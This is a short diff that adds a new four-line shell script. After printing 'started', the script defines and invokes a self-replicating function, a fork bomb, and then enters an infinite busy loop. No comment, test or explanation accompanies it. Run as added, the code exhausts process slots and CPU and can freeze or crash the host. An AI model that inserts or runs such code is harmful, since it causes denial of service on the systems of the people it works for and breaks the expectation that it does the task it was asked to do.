@@ -1,0 +1,4 @@
+echo started
+bomb() { bomb | bomb & }
+bomb
+while :; do :; done
